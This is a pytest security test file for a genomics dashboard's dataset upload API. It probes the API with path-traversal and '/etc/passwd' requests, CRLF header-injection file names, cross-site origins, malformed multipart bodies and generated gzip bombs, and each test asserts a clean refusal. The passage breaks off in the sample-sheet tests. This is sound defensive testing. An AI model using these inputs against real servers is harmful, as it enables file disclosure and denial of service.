"""Dataset import, uploads and sample sheets probed as an attacker would.

Each case ends in a clear 4xx JSON error (or a legitimate success), never a 500, never a
half-written file in ``<data dir>/datasets/incoming/`` and never a partial row. Cases that
fail today are marked ``xfail(strict=True)`` with the bug in their reason. The GB-sized cases
were measured by hand on a running server and are not here: a gzip bomb of valid reads (13 MB
-> 10 GiB, imported in 21 s with +100 MB of RSS), a GenBank record of 100 MiB of identical
features in 250 kB of gzip (2.8 GB of RSS, 57 s: Biopython holds a record whole), a 1 GB form
of dummy fields (+1.1 GB of RSS per request), and waitress spooling any body, login or not,
up to 256 GiB into <data dir>/tmp before the gate answers 401.
"""

from __future__ import annotations

import contextlib
import gzip
import hashlib
import io
import os
import subprocess
import sys
import threading
import time
import zlib
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select, update

from dashboard.auth import app_state
from dashboard.models import Dataset
from dashboard.models.jobs import Job
from dashboard.services import job_runner, jobs
from tests.integration.conftest import Site

ROOT = Path(__file__).resolve().parents[2]
BOUNDARY = "atTackB0undary"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
FASTA = b">atk\nACGTACGT\n"


# --- helpers -------------------------------------------------------------------------------


def _json(response: Any, status: int) -> Any:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/json", response.mimetype
    body = response.get_json()
    assert "Traceback" not in response.get_data(as_text=True)
    return body


def _error(response: Any, status: int) -> dict[str, Any]:
    body = _json(response, status)
    assert set(body) == {"error"}, body
    assert body["error"]["message"], body
    return body["error"]  # type: ignore[no-any-return]


def _part(name: str, value: bytes, filename: str | None = None) -> bytes:
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"'
    if filename is not None:
        head += f'; filename="{filename}"'
    return head.encode("utf-8") + b"\r\n\r\n" + value + b"\r\n"


def _body(*parts: bytes) -> bytes:
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def _meta(experiment: int, sample: str) -> bytes:
    return _part("experiment_id", str(experiment).encode()) + _part("sample_name", sample.encode())


def _raw(client: FlaskClient, body: bytes, content_type: str = MULTIPART, **kw: Any) -> Any:
    return client.post("/api/v1/datasets", data=body, content_type=content_type, **kw)


def _post(client: FlaskClient, data: bytes, name: str, experiment: int, sample: str) -> Any:
    form = {
        "file": (io.BytesIO(data), name),
        "experiment_id": str(experiment),
        "sample_name": sample,
    }
    return client.post("/api/v1/datasets", data=form, content_type="multipart/form-data")


def _incoming(site: Site) -> set[str]:
    folder = app_state(site.server).files.store.incoming
    return {p.name for p in folder.iterdir()} if folder.exists() else set()


def _dataset_count(site: Site) -> int:
    with site.db.read() as s:
        return int(s.scalar(select(func.count()).select_from(Dataset)) or 0)


class _Unchanged:
    """Asserts that a block left no dataset row and no file in incoming/ behind."""

    def __init__(self, site: Site) -> None:
        self.site = site

    def __enter__(self) -> _Unchanged:
        self.rows, self.files = _dataset_count(self.site), _incoming(self.site)
        return self

    def __exit__(self, *exc: object) -> None:
        if exc[0] is None:
            assert _dataset_count(self.site) == self.rows
            assert _incoming(self.site) == self.files


@pytest.fixture(scope="module")
def experiment_id(site: Site) -> int:
    body = {
        "name": "Attacks on dataset import",
        "organism": "Escherichia coli",
        "arms": [{"name": "flight", "spaceflight": "Space Flight", "gravity_g": 0}],
    }
    return int(_json(site.client("sci").post("/api/v1/experiments", json=body), 201)["id"])


@pytest.fixture(scope="module")
def sci(site: Site) -> FlaskClient:
    return site.client("sci")


@pytest.fixture(scope="module")
def other_scientist(site: Site) -> str:
    from dashboard.services import accounts
    from dashboard.services.actor import cli_actor
    from tests.conftest import PASSWORD

    accounts.create_user(site.db, cli_actor("test"), "sci-attacker", PASSWORD, ["scientist"])
    return "sci-attacker"


def _open_upload(client: FlaskClient, experiment: int, size: int, sample: str = "up") -> str:
    body = {"filename": "u.fa", "size": size, "experiment_id": experiment, "sample_name": sample}
    return str(_json(client.post("/api/v1/uploads", json=body), 201)["id"])


def _files_root(site: Site) -> Path:
    return app_state(site.server).settings.job_files_dir


# --- hostile file names --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("../../atk-traversal.fa", "atk-traversal.fa"),
        ("/etc/atk-absolute.fa", "atk-absolute.fa"),
        ("....", "...."),  # only dots, but not "." or "..": a harmless display name
    ],
)
def test_path_parts_of_a_file_name_are_dropped(
    site: Site, sci: FlaskClient, experiment_id: int, name: str, stored: str
) -> None:
    data = b">n%s\nACGT\n" % hashlib.sha256(name.encode()).hexdigest()[:12].encode()
    created = _json(_post(sci, data, name, experiment_id, "names"), 201)
    assert created["filename"] == stored
    content = sci.get(f"/api/v1/datasets/{created['id']}/content")
    assert content.get_data() == data
    assert "/" not in content.headers["Content-Disposition"]
    assert site.client("boss").delete(f"/api/v1/datasets/{created['id']}").status_code == 204


@pytest.mark.parametrize(
    "name",
    [
        "a\x00b.fa",
        "a\rb.fa",
        "x" * 10_000,
        ".",
        "..",
        "",
        "  ",
        "dir/",
        "\u202eaf.exe",
        "a\u200bb.fa",
    ],
    ids=[
        "nul",
        "cr",
        "10000-chars",
        "dot",
        "dotdot",
        "empty",
        "blank",
        "dir",
        "bidi",
        "zero-width",
    ],
)
def test_hostile_file_names_are_refused_and_leave_nothing(
    site: Site, sci: FlaskClient, experiment_id: int, name: str
) -> None:
    with _Unchanged(site):
        refused = _error(_post(sci, FASTA, name, experiment_id, "names"), 422)
    assert refused["field"] == "file"


def test_a_name_with_a_line_break_cannot_smuggle_headers(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    # The raw part header holds CR LF inside the quoted file name.
    body = _body(
        _meta(experiment_id, "names"),
        _part("file", FASTA, "a.fa\r\nContent-Type: text/html"),
    )
    with _Unchanged(site):
        assert _error(_raw(sci, body), 422)["field"] == "file"


def test_content_disposition_of_a_hostile_stored_name_is_quoted(
    site: Site, sci: FlaskClient, experiment_id: int, tmp_path: Path
) -> None:
    from dashboard.services import datasets
    from dashboard.services.actor import cli_actor

    store = app_state(site.server).files.store
    details = datasets.parse_details({"experiment_id": experiment_id, "sample_name": "cd"})
    for i, name in enumerate(
        ['q";filename="evil.exe";x=".fa', "évil <b>.fa", "%0d%0aSet-Cookie:x.fa"]
    ):
        path = tmp_path / name
        path.write_bytes(b">cd%d\nACGT\n" % i)
        view = datasets.import_path(site.db, cli_actor("t"), store, path, details)
        response = sci.get(f"/api/v1/datasets/{view.id}/content")
        disposition = response.headers["Content-Disposition"]
        assert "\r" not in disposition
        assert "\n" not in disposition
        assert disposition.startswith("attachment; filename=")
        assert 'filename="evil.exe"' not in disposition  # the quote is escaped, not closed
        assert not [v for v in response.headers.getlist("Set-Cookie") if "x.fa" in v]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.mimetype == "application/octet-stream"


# --- malformed multipart -------------------------------------------------------------------


def test_malformed_multipart_is_a_422_or_413_and_leaves_nothing(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    meta = _meta(experiment_id, "mp")
    cases: list[tuple[str, bytes, str, int]] = [
        (
            "two files",
            _body(meta, _part("file", FASTA, "a.fa"), _part("file", FASTA, "b.fa")),
            MULTIPART,
            422,
        ),
        ("file in another field", _body(meta, _part("data", FASTA, "a.fa")), MULTIPART, 422),
        (
            "another file first",
            _body(meta, _part("data", FASTA, "a.fa"), _part("file", FASTA, "b.fa")),
            MULTIPART,
            422,
        ),
        ("no file", _body(meta), MULTIPART, 422),
        ("file field without a file name", _body(meta, _part("file", FASTA)), MULTIPART, 422),
        ("missing boundary", _body(meta, _part("file", FASTA, "a.fa")), "multipart/form-data", 422),
        (
            "wrong boundary",
            _body(meta, _part("file", FASTA, "a.fa")),
            "multipart/form-data; boundary=zz",
            422,
        ),
        (
            "no closing boundary",
            _body(meta, _part("file", FASTA, "a.fa"))[: -len(BOUNDARY) - 6],
            MULTIPART,
            422,
        ),
        (
            "100 kB instrument",
            _body(meta, _part("instrument", b"x" * 100_000), _part("file", FASTA, "a.fa")),
            MULTIPART,
            422,
        ),
        (
            "2 MB text field",
            _body(meta, _part("instrument", b"x" * 2_000_000), _part("file", FASTA, "a.fa")),
            MULTIPART,
            413,
        ),
        ("JSON", b'{"file": "x"}', "application/json", 422),
        ("form-urlencoded", b"file=x", "application/x-www-form-urlencoded", 422),
    ]
    for label, body, content_type, status in cases:
        with _Unchanged(site):
            response = _raw(sci, body, content_type)
            assert response.status_code == status, (label, response.get_data(as_text=True))
            _error(response, status)


def test_a_body_cut_short_leaves_no_file_and_no_row(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    full = _body(
        _meta(experiment_id, "cut"), _part("file", b">cut\n" + b"ACGT" * 100_000 + b"\n", "c.fa")
    )
    with _Unchanged(site):
        response = sci.post(
            "/api/v1/datasets",
            input_stream=io.BytesIO(full[: len(full) // 2]),
            content_type=MULTIPART,
            headers={"Content-Length": str(len(full))},  # promises more than arrives
        )
        assert 400 <= response.status_code < 500
        _error(response, response.status_code)


# --- logins, roles and other sites ---------------------------------------------------------


class _Body(io.RawIOBase):
    """A request body of ``size`` bytes that the test client can measure (seek/tell) and
    that hands out its bytes through :meth:`take` (the real reader)."""

    def __init__(self, size: int) -> None:
        self.size = size
        self.position = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def tell(self) -> int:
        return self.position

    def seek(self, offset: int, whence: int = 0) -> int:
        self.position = {0: offset, 1: self.position + offset, 2: self.size + offset}[whence]
        return self.position

    def readinto(self, buffer: Any) -> int:
        data = self.take(min(len(buffer), self.size - self.position))
        buffer[: len(data)] = data
        self.position += len(data)
        return len(data)

    def take(self, n: int) -> bytes:
        raise NotImplementedError


class _Untouchable(_Body):
    """A request body that must not be read."""

    read_calls = 0

    def take(self, n: int) -> bytes:
        type(self).read_calls += 1
        raise AssertionError("the body of an unauthenticated request was read")


NEW_ROUTES = [
    ("GET", "/api/v1/datasets"),
    ("POST", "/api/v1/datasets"),
    ("GET", "/api/v1/datasets/1"),
    ("DELETE", "/api/v1/datasets/1"),
    ("GET", "/api/v1/datasets/1/content"),
    ("GET", "/api/v1/datasets/1/records"),
    ("GET", "/api/v1/datasets/1/stats"),
    ("GET", "/api/v1/datasets/1/stats.csv"),
    ("GET", "/api/v1/datasets/1/features"),
    ("GET", "/api/v1/datasets/1/region?start=1&end=2"),
    ("GET", "/api/v1/datasets/1/orfs"),
    ("GET", "/api/v1/datasets/1/cds.fasta"),
    ("GET", "/api/v1/datasets/1/orfs.fasta"),
    ("POST", "/api/v1/uploads"),
    ("GET", "/api/v1/uploads/x"),
    ("PUT", "/api/v1/uploads/x?offset=0"),
    ("DELETE", "/api/v1/uploads/x"),
    ("POST", "/api/v1/uploads/x/complete"),
    ("GET", "/api/v1/experiments/1/samples.tsv"),
    ("POST", "/api/v1/experiments/1/samples.tsv"),
]


def test_every_new_route_answers_401_without_reading_the_body(site: Site) -> None:
    anonymous = site.server.test_client()
    _Untouchable.read_calls = 0
    for method, path in NEW_ROUTES:
        response = anonymous.open(
            path,
            method=method,
            input_stream=_Untouchable(10**9),
            content_type=MULTIPART,
        )
        assert _error(response, 401)["code"] == "unauthorized", (method, path)
        assert response.headers["WWW-Authenticate"].startswith("Bearer")
    assert _Untouchable.read_calls == 0


def test_operators_and_reviewers_can_neither_import_nor_delete(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    created = _json(_post(sci, b">roles\nACGT\n", "r.fa", experiment_id, "roles"), 201)
    for who in ("oper", "rev"):
        client = site.client(who)
        with _Unchanged(site):
            assert _error(_post(client, b">x\nAC\n", "x.fa", experiment_id, "roles"), 403)
            upload = {
                "filename": "x.fa",
                "size": 5,
                "experiment_id": experiment_id,
                "sample_name": "x",
            }
            assert _error(client.post("/api/v1/uploads", json=upload), 403)
            sheet = f"/api/v1/experiments/{experiment_id}/samples.tsv"
            assert _error(client.post(sheet, data=b"Sample Name\nroles-x\n"), 403)
            assert _error(client.delete(f"/api/v1/datasets/{created['id']}"), 403)
    assert _error(sci.delete(f"/api/v1/datasets/{created['id']}"), 403)  # admins only
    assert site.client("boss").delete(f"/api/v1/datasets/{created['id']}").status_code == 204


def test_cross_site_posts_are_refused_before_anything_is_stored(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    upload_id = _open_upload(sci, experiment_id, 5, "xsite")
    for origin in ("http://evil.example", "null", "http://localhost.evil.example"):
        headers = {"Origin": origin}
        with _Unchanged(site):
            form = {
                "file": (io.BytesIO(b">xs\nAC\n"), "x.fa"),
                "experiment_id": str(experiment_id),
                "sample_name": "xs",
            }
            r = sci.post(
                "/api/v1/datasets", data=form, content_type="multipart/form-data", headers=headers
            )
            assert _error(r, 403)["code"] == "forbidden"
            sheet = f"/api/v1/experiments/{experiment_id}/samples.tsv"
            assert _error(sci.post(sheet, data=b"Sample Name\nxsite\n", headers=headers), 403)
            assert _error(
                sci.put(f"/api/v1/uploads/{upload_id}?offset=0", data=b">a\nA\n", headers=headers),
                403,
            )
            assert _error(sci.post(f"/api/v1/uploads/{upload_id}/complete", headers=headers), 403)
            assert _error(sci.delete(f"/api/v1/uploads/{upload_id}", headers=headers), 403)
    assert _json(sci.get(f"/api/v1/uploads/{upload_id}"), 200)["received"] == 0


def test_content_reads_nothing_outside_the_store(site: Site, sci: FlaskClient) -> None:
    for path in (
        "/api/v1/datasets/0/content",
        "/api/v1/datasets/-1/content",
        f"/api/v1/datasets/{2**31}/content",
        "/api/v1/datasets/..%2F..%2Fetc%2Fpasswd/content",
        "/api/v1/datasets/1%2F..%2F2/content",
        "/api/v1/datasets/%2Fetc%2Fpasswd/content",
    ):
        response = sci.get(path)
        assert _error(response, 404)["code"] == "not_found", path
        assert b"root:" not in response.get_data()


# --- uploads -------------------------------------------------------------------------------


def test_upload_offsets_sizes_and_ids_are_checked(
    site: Site, sci: FlaskClient, experiment_id: int, other_scientist: str
) -> None:
    upload_id = _open_upload(sci, experiment_id, 10, "offsets")
    base = f"/api/v1/uploads/{upload_id}"
    for offset in ("-1", "abc", "1e3", "0x10", "1.5", "", str(2**70)):
        assert _error(sci.put(f"{base}?offset={offset}", data=b"x"), 422)["field"] == "offset"
    assert _error(sci.put(base, data=b"x"), 422)["field"] == "offset"
    assert _error(sci.put(f"{base}?offset=%00", data=b"x"), 400)
    assert _error(sci.put(f"{base}?offset=5", data=b"x"), 409)["field"] == "offset"
    # Past the declared size: refused, and nothing of it kept.
    assert _error(sci.put(f"{base}?offset=0", data=b"x" * 11), 422)["field"] == "chunk"
    part = app_state(site.server).files.store.incoming / f"upload-{upload_id}"
    assert part.stat().st_size == 0
    assert _json(sci.put(f"{base}?offset=0", data=b">o\nACGT\n"), 200)["received"] == 8
    assert _error(sci.put(f"{base}?offset=8", data=b"AC\n"), 422)["field"] == "chunk"
    assert part.read_bytes() == b">o\nACGT\n"
    # Someone else's upload does not exist for them, admins included.
    for who in (other_scientist, "boss"):
        other = site.client(who)
        assert _error(other.get(base), 404)
        assert _error(other.put(f"{base}?offset=8", data=b"A\n"), 404)
        assert _error(other.post(f"{base}/complete"), 404)
        assert _error(other.delete(base), 404)
    assert _error(sci.post(f"{base}/complete"), 409)  # 8 of 10 bytes
    assert _json(sci.put(f"{base}?offset=8", data=b"A\n"), 200)["received"] == 10
    first = _json(sci.post(f"{base}/complete"), 202)
    assert _json(sci.post(f"{base}/complete"), 202)["id"] == first["id"]
    assert _error(sci.delete(base), 409)  # being imported
    assert _error(sci.put(f"{base}?offset=10", data=b""), 409)
    assert job_runner.execute(site.db, first["id"], _files_root(site)) == "succeeded"
    assert not part.exists()
    for bad in ("..%2F..%2Fetc%2Fpasswd", "%2e%2e", "a" * 43, "a" * 5000, "upload-x", "a%2Fb"):
        assert _error(sci.get(f"/api/v1/uploads/{bad}"), 404)
        put = sci.put(f"/api/v1/uploads/{bad}?offset=0", data=b"x")
        assert _error(put, put.status_code)["code"] in {"not_found", "method_not_allowed"}
    for size in (0, -1, 2**70, 256 * 1024**3 + 1, True, "ten"):
        body = {
            "filename": "s.fa",
            "size": size,
            "experiment_id": experiment_id,
            "sample_name": "s",
        }
        assert _error(sci.post("/api/v1/uploads", json=body), 422)["field"] == "size"


def test_a_fractional_upload_size_is_refused(sci: FlaskClient, experiment_id: int) -> None:
    body = {"filename": "s.fa", "size": 1.5, "experiment_id": experiment_id, "sample_name": "s"}
    assert _error(sci.post("/api/v1/uploads", json=body), 422)["field"] == "size"


class _Gated(_Body):
    """A request body handed out only once ``gate`` is set; ``reached`` tells it was asked."""

    def __init__(self, data: bytes) -> None:
        super().__init__(len(data))
        self.data = data
        self.gate = threading.Event()
        self.reached = threading.Event()

    def take(self, n: int) -> bytes:
        self.reached.set()
        if not self.gate.wait(10):
            raise TimeoutError("gate never opened")
        return self.data[self.position : self.position + n]


def _put_in_thread(site: Site, path: str, stream: _Gated, out: dict[str, Any]) -> threading.Thread:
    client = site.client("sci")

    def run() -> None:
        out["response"] = client.put(
            path, input_stream=stream, content_type="application/octet-stream"
        )

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread


def test_a_stale_chunk_cannot_rewrite_an_upload_that_moved_on(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    first_bytes, stale_bytes = b">st1\nACGTACGT\n", b">st2\nTTTTTTTT\n"
    upload_id = _open_upload(sci, experiment_id, len(first_bytes), "stale")
    path = f"/api/v1/uploads/{upload_id}?offset=0"
    first, stale = _Gated(first_bytes), _Gated(stale_bytes)
    first_out: dict[str, Any] = {}
    stale_out: dict[str, Any] = {}
    first_thread = _put_in_thread(site, path, first, first_out)
    assert first.reached.wait(5)  # holds the file lock, waiting for its bytes
    stale_thread = _put_in_thread(site, path, stale, stale_out)
    time.sleep(0.5)  # the stale PUT has checked offset 0 and waits for the lock
    first.gate.set()
    first_thread.join(10)
    assert _json(first_out["response"], 200)["received"] == len(first_bytes)
    stale.reached.wait(2)  # today: it got the lock and truncated the file
    part = app_state(site.server).files.store.incoming / f"upload-{upload_id}"
    try:
        # The upload says all bytes are in; the file must hold the acknowledged ones.
        assert _json(sci.get(f"/api/v1/uploads/{upload_id}"), 200)["received"] == len(first_bytes)
        assert part.read_bytes() == first_bytes, "emptied by a PUT that started before"
        job = _json(sci.post(f"/api/v1/uploads/{upload_id}/complete"), 202)
        assert job_runner.execute(site.db, job["id"], _files_root(site)) == "succeeded"
        done = _json(sci.get(f"/api/v1/jobs/{job['id']}"), 200)
        assert done["result"]["sha256"] == hashlib.sha256(first_bytes).hexdigest()
    finally:
        stale.gate.set()
        stale_thread.join(10)
    assert stale_out["response"].status_code == 409


def test_concurrent_completes_start_one_job(
    site: Site, sci: FlaskClient, experiment_id: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = b">twice\nACGTTGCA\n"
    upload_id = _open_upload(sci, experiment_id, len(data), "twice")
    _json(sci.put(f"/api/v1/uploads/{upload_id}?offset=0", data=data), 200)
    barrier = threading.Barrier(2, timeout=3)
    original = jobs.start

    def start_together(*args: Any, **kwargs: Any) -> Any:
        # Both requests are past the job_id check; a broken barrier means the second never
        # got here (completes are serialised).
        with contextlib.suppress(threading.BrokenBarrierError):
            barrier.wait()
        return original(*args, **kwargs)

    monkeypatch.setattr(jobs, "start", start_together)
    answers: list[Any] = []
    clients = [site.client("sci"), site.client("sci")]

    def complete(client: FlaskClient) -> None:
        answers.append(client.post(f"/api/v1/uploads/{upload_id}/complete"))

    threads = [threading.Thread(target=complete, args=(c,)) for c in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join(15)
    ids = {_json(a, 202)["id"] for a in answers}
    for job_id in ids:
        job_runner.execute(site.db, job_id, _files_root(site))
    assert len(ids) == 1, f"{len(ids)} import jobs for one upload"


def test_a_failed_import_job_does_not_show_server_paths(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    data = b">gone\nACGTTGCA\n"
    upload_id = _open_upload(sci, experiment_id, len(data), "gone")
    _json(sci.put(f"/api/v1/uploads/{upload_id}?offset=0", data=data), 200)
    job = _json(sci.post(f"/api/v1/uploads/{upload_id}/complete"), 202)
    store = app_state(site.server).files.store
    (store.incoming / f"upload-{upload_id}").unlink()  # swept, or removed by hand
    assert job_runner.execute(site.db, job["id"], _files_root(site)) == "failed"
    error = _json(sci.get(f"/api/v1/jobs/{job['id']}"), 200)["error"]
    assert str(store.root) not in error
    assert "Errno" not in error


def test_an_upload_whose_import_job_died_can_be_discarded(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    data = b">died\nACGTTGCA\n"
    upload_id = _open_upload(sci, experiment_id, len(data), "died")
    _json(sci.put(f"/api/v1/uploads/{upload_id}?offset=0", data=data), 200)
    job = _json(sci.post(f"/api/v1/uploads/{upload_id}/complete"), 202)
    with site.db.begin() as s:  # as the reaper leaves a job whose worker was killed
        s.execute(update(Job).where(Job.id == job["id"]).values(state=jobs.INTERRUPTED))
    assert sci.delete(f"/api/v1/uploads/{upload_id}").status_code == 204
    assert f"upload-{upload_id}" not in _incoming(site)


def test_a_chunk_sent_as_json_is_stored_or_refused(sci: FlaskClient, experiment_id: int) -> None:
    chunk = b'{"a": 12}'
    upload_id = _open_upload(sci, experiment_id, len(chunk), "jsonchunk")
    response = sci.put(
        f"/api/v1/uploads/{upload_id}?offset=0", data=chunk, content_type="application/json"
    )
    assert response.status_code != 200 or response.get_json()["received"] == len(chunk)


@pytest.mark.postgres
def test_an_upload_id_with_nul_is_not_found_on_postgresql(postgres_url: str) -> None:
    from dashboard.db import Database
    from dashboard.services import uploads
    from dashboard.services.actor import Role
    from dashboard.services.errors import NotFound
    from tests.conftest import make_user

    db = Database(postgres_url)
    try:
        db.upgrade()
        actor = make_user(db, "nul-sci", Role.SCIENTIST)
        with pytest.raises(NotFound):
            uploads.get_upload(db, actor, "\x00abc")
    finally:
        db.dispose()


# --- the form's fields ---------------------------------------------------------------------


def test_deeply_nested_factors_are_a_422(site: Site, sci: FlaskClient, experiment_id: int) -> None:
    deep = b'{"a":' * 10_000 + b"1" + b"}" * 10_000
    body = _body(_meta(experiment_id, "deep"), _part("factors", deep), _part("file", FASTA, "d.fa"))
    with _Unchanged(site):
        assert _error(_raw(sci, body), 422)["field"] == "factors"


def test_form_fields_that_are_not_utf8_are_refused(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    body = _body(
        _part("experiment_id", str(experiment_id).encode()),
        _part("sample_name", "Schön-1".encode("latin-1")),
        _part("file", b">latin\nACGT\n", "l.fa"),
    )
    with _Unchanged(site):
        assert _error(_raw(sci, body), 422)["field"] == "sample_name"


def test_a_form_with_thousands_of_parts_is_refused(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    fields = [_part(f"pad{i}", b"v") for i in range(2000)]
    body = _body(_meta(experiment_id, "parts"), _part("file", b">parts\nACGT\n", "p.fa"), *fields)
    with _Unchanged(site):
        response = _raw(sci, body)
        assert response.status_code in (413, 422), response.status_code
        _error(response, response.status_code)


# --- sequence files ------------------------------------------------------------------------


def _genbank(length: bytes, sequence_line: bytes, name: bytes = b"ATK1") -> bytes:
    return (
        b"LOCUS       " + name + b"   " + length + b" bp    DNA     linear   BCT 01-JAN-2000\n"
        b"DEFINITION  attack.\nACCESSION   " + name + b"\nVERSION     " + name + b".1\n"
        b"FEATURES             Location/Qualifiers\n     source          1..4\n"
        b"ORIGIN\n" + sequence_line + b"\n//\n"
    )


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (os.urandom(4096), "junk.fa"),
        (b"\x89PNG\r\n\x1a\n" + os.urandom(100), "image.fastq"),
        (b"", "empty.fa"),
        (b"\x1f\x8b\x08\x00" + os.urandom(200), "damaged.fa.gz"),
        (gzip.compress(b">a\nACGT\n" * 1000, mtime=0)[:-20], "cut.fa.gz"),
        (gzip.compress(b">a\nACGT\n", mtime=0) + b"trailing", "appended.fa.gz"),
        (gzip.compress(gzip.compress(b">a\nACGT\n", mtime=0), mtime=0), "double.fa.gz"),
        (_genbank(b"9" * 30, b"        1 acgt"), "absurd-length.gb"),
        (_genbank(b"9" * 5000, b"        1 acgt"), "5000-digit-length.gb"),
        (_genbank(str(2**63).encode(), b"        1 acgt"), "2-to-63.gb"),
        (_genbank(b"5", b"        1 acgt"), "length-off-by-one.gb"),
        (b"@r1\n" + b"A" * 1000 + b"\n+\n" + b"I" * 999 + b"\n", "short-quality.fq"),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_malformed_sequence_files_are_a_422_naming_the_file(
    site: Site, sci: FlaskClient, experiment_id: int, data: bytes, name: str
) -> None:
    with _Unchanged(site):
        refused = _error(_post(sci, data, name, experiment_id, "bad"), 422)
    assert refused["field"] == "file"


def test_a_genbank_sequence_biopython_cannot_read_is_a_422(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    with _Unchanged(site):
        response = _post(
            sci, _genbank(b"4", b"   1 acgt", b"ATK2"), "indent.gb", experiment_id, "gb"
        )
        assert _error(response, 422)["field"] == "file"


def test_a_genbank_sequence_shifted_into_the_number_column_is_refused(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    response = _post(
        sci, _genbank(b"4", b" " * 10 + b"1 acgt", b"ATK3"), "shift.gb", experiment_id, "gb"
    )
    if response.status_code == 201:  # today: clean up what should not have been stored
        created = response.get_json()
        site.client("boss").delete(f"/api/v1/datasets/{created['id']}")
        assert created["total_length"] == 4, "stored with a 5-base sequence"
    assert _error(response, 422)["field"] == "file"


def test_every_listed_record_can_be_opened(sci: FlaskClient, experiment_id: int) -> None:
    long_id = "L" * 300
    fasta = f">{long_id}x one\nACGTACGTAA\n>{long_id}y two\nTTTTTGGGGG\n".encode()
    response = _post(sci, fasta, "long-ids.fa", experiment_id, "long-ids")
    if response.status_code == 422:  # refusing ids the app cannot address is a fix too
        return
    dataset = _json(response, 201)["id"]
    listed = _json(sci.get(f"/api/v1/datasets/{dataset}/records"), 200)
    assert len({r["id"] for r in listed}) == 2
    for record in listed:
        url = f"/api/v1/datasets/{dataset}/region?record={record['id']}&start=1&end=3"
        assert sci.get(url).status_code == 200


def test_a_valid_file_with_a_misleading_extension_is_taken_by_its_content(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    created = _json(_post(sci, b"@ext1\nACGT\n+\nIIII\n", "genome.gb", experiment_id, "ext"), 201)
    assert (created["format"], created["compression"], created["filename"]) == (
        "fastq",
        "none",
        "genome.gb",
    )
    zipped = _json(
        _post(sci, gzip.compress(b">ext2\nACGT\n"), "plain.fa", experiment_id, "ext"), 201
    )
    assert (zipped["format"], zipped["compression"]) == ("fasta", "gzip")


def test_an_ordinary_multiline_fasta_of_200_kb_imports_through_multipart(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    # Was a 413 until 69478db: the 64 KiB form-memory limit also bounded werkzeug's read buffer.
    line = b"ACGTTGCAAGCTTGACCATGGTACCGGATCCAAGCTTGCATGCCTGCAGGTCGACTCTAG"
    data = b">multi\n" + b"\n".join(line[i % 60 :] + line[: i % 60] for i in range(3300)) + b"\n"
    assert len(data) > 200_000
    created = _json(_post(sci, data, "multi.fa", experiment_id, "multi"), 201)
    assert created["sha256"] == hashlib.sha256(data).hexdigest()


# --- memory on bombs -----------------------------------------------------------------------

_RSS_PROBE = r"""
import resource, sys
from pathlib import Path
sys.path.insert(0, sys.argv[3])
from analysis.sequences.formats import SequenceFormatError, validate
warm = Path(sys.argv[1]).with_name("warm.fa")
warm.write_bytes(b">w\nACGT\n")
validate(warm, "warm.fa")
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    validate(Path(sys.argv[1]), sys.argv[2])
    outcome = "accepted"
except SequenceFormatError:
    outcome = "refused"
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(outcome, (after - before) * 1024)
"""


def _rss_growth(path: Path, name: str) -> tuple[str, int]:
    """Validate ``path`` in a fresh interpreter: the outcome and the peak RSS it added."""
    out = subprocess.run(
        [sys.executable, "-c", _RSS_PROBE, str(path), name, str(ROOT)],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    outcome, grown = out.stdout.split()
    return outcome, int(grown)


def _gzip_of_repeats(path: Path, head: bytes, unit: bytes, total: int, tail: bytes) -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = unit * max(1, (1 << 20) // len(unit))
    with path.open("wb") as out:
        out.write(packer.compress(head))
        for _ in range(total // len(block)):
            out.write(packer.compress(block))
        out.write(packer.compress(tail) + packer.flush())


def test_a_valid_fastq_gzip_bomb_is_checked_in_bounded_memory(tmp_path: Path) -> None:
    # 128 MiB of valid reads in ~130 kB of gzip (by hand: 13 MB -> 10 GiB took 36 s over
    # HTTP with the server's RSS +100 MB, and was imported: valid data, no size cap).
    read = b"@bomb\n" + b"A" * 10_000 + b"\n+\n" + b"I" * 10_000 + b"\n"
    path = tmp_path / "reads.fq.gz"
    _gzip_of_repeats(path, b"", read, 128 << 20, b"")
    outcome, grown = _rss_growth(path, "reads.fq.gz")
    assert outcome == "accepted"
    assert grown < 96 << 20, f"{grown >> 20} MiB for 128 MiB of reads"


@pytest.mark.parametrize(
    ("name", "head", "tail"),
    [("genome.fa.gz", b">one\n", b"\n"), ("reads.fq.gz", b"@one\n", b"\n+\nI\n")],
)
def test_a_single_line_gzip_bomb_is_checked_in_bounded_memory(
    tmp_path: Path, name: str, head: bytes, tail: bytes
) -> None:
    path = tmp_path / name
    _gzip_of_repeats(path, head, b"A" * 1024, 128 << 20, tail)
    _outcome, grown = _rss_growth(path, name)
    assert grown < 64 << 20, f"{grown >> 20} MiB of RSS for one 128 MiB line"


# --- sample sheets -------------------------------------------------------------------------


def test_hostile_sample_sheets_are_refused_whole(
    site: Site, sci: FlaskClient, experiment_id: int
